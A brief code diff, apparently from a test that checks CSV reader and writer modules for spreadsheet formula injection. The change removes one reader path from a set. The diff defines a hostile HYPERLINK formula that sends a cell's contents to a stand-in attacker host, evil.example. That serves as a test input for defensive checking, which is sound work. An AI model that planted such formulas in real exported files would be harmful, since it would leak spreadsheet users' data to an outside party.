@@ -25,7 +25,7 @@ from worker.commands.root import Exit, tilelab
 
 ROOT = Path(kernels.__file__).parent.parent
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-READERS = {"server/roster/csv_file.py", "worker/gpu/profile/nsight.py"}
+READERS = {"worker/gpu/profile/nsight.py"}
 WRITER = "kernels/csv_tables.py"
 
 
